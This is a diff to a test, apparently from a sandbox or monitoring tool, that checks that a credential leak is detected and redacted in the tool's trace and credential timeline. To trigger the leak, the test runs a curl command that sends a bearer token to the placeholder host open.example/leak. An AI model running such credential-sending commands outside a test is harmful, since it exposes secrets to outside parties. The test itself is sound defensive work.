@@ -358,6 +358,7 @@ def test_leak_is_noted(w):
     p = w.b("exec", "-T", "s", "--", "curl", "-sS", "-m", "20", "-w", " %{http_code}", "-H", f"Authorization: Bearer {key}", "https://open.example/leak")
     assert p.stdout.endswith(" 200"), p
     need_brome()
-    out = w.b("trace", "leaks", check=0).stdout
-    assert "open.example" in out and "github" in out and key not in out and key[:14] not in out, out
+    rows = [r for r in w.b.trace(host="open.example")] + w.b.timeline(engine="Credential")
+    text = json.dumps(rows)
+    assert "leak" in text and "github" in text and key not in text and key[:14] not in text, rows
 
